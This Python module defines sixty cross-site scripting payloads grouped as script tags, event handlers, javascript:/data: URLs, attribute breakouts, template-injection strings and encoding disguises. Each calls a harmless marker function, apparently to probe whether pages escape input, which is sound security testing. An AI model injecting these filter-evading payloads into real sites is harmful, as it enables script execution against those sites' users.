"""Sixty texts that would run as code where a page forgot to escape them. § stands for the number of the place."""

SCRIPTS = (
    "<script>__xss(§)</script>",
    "</script><script>__xss(§)</script>",
    "<ScRiPt>__xss(§)</sCrIpT>",
    "<script src=data:,__xss(§)></script>",
    "<script type=module>__xss(§)</script>",
    "<scr<script>ipt>__xss(§)</scr</script>ipt>",
    "--><script>__xss(§)</script>",
)
HANDLERS = (
    "<img src onerror=__xss(§)>",
    "<img src=x onerror='__xss(§)'>",
    "<svg/onload=__xss(§)>",
    "<svg><animate onbegin=__xss(§) attributeName=x>",
    "<body onload=__xss(§)>",
    "<video src=x onerror=__xss(§)>",
    "<audio src onerror=__xss(§)>",
    "<details open ontoggle=__xss(§)>",
    "<input autofocus onfocus=__xss(§)>",
    "<select autofocus onfocus=__xss(§)>",
    "<marquee onstart=__xss(§)>",
    "<p style=animation:x onanimationstart=__xss(§)>",
    "<img/src=`x`onerror=__xss(§)>",
)
ADDRESSES = (
    "javascript:__xss(§)",
    "JaVaScRiPt:__xss(§)",
    "java\tscript:__xss(§)",
    "<a href=javascript:__xss(§) id=§>a</a>",
    "<a href='&#106;avascript:__xss(§)'>a</a>",
    "<form action=javascript:__xss(§)><button>",
    "<button formaction=javascript:__xss(§)>b",
    "data:text/html,<script>__xss(§)</script>",
    "<object data=javascript:__xss(§)>",
    "<embed src=data:text/html,<script>__xss(§)</script>>",
    "<iframe src=javascript:__xss(§)>",
    "<iframe srcdoc='<img src onerror=parent.__xss(§)>'>",
    "<meta http-equiv=refresh content=0;javascript:__xss(§)>",
    "<base href=javascript:__xss(§)//>",
)
BREAKOUTS = (
    '" onmouseover=__xss(§) x="',
    "' onmouseover=__xss(§) x='",
    "` onmouseover=__xss(§) x=`",
    '" autofocus onfocus=__xss(§) "',
    '"><svg onload=__xss(§)>',
    "'><svg onload=__xss(§)>",
    "</textarea><svg onload=__xss(§)>",
    "</title><svg onload=__xss(§)>",
    "</style><svg onload=__xss(§)>",
    "</option></select><img src onerror=__xss(§)>",
    "');__xss(§);//",
    '\\");__xss(§);//',
)
TEMPLATES = (
    "{{7*§}}",
    "{% debug %}{# § #}",
    "${__xss(§)}",
    "{0.__class__.__init__} {§}",
    "<b x-data x-init=__xss(§)>",
    '" x-init="__xss(§)" x-data="',
    '" @click="__xss(§)" x-data="',
    "<i hx-get=/ hx-trigger=load hx-on::load=__xss(§)>",
    '" hx-on:click="__xss(§)',
    "<b style=width:expression(__xss(§))>",
)
DISGUISES = (
    "&lt;img src onerror=__xss(§)&gt;",
    "\uff1cscript\uff1e__xss(§)\uff1c/script\uff1e",
    "\u202e<svg/onload=__xss(§)>\u2066",
    "<noscript><p title='</noscript><img src onerror=__xss(§)>'>",
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *ADDRESSES, *BREAKOUTS, *TEMPLATES, *DISGUISES)
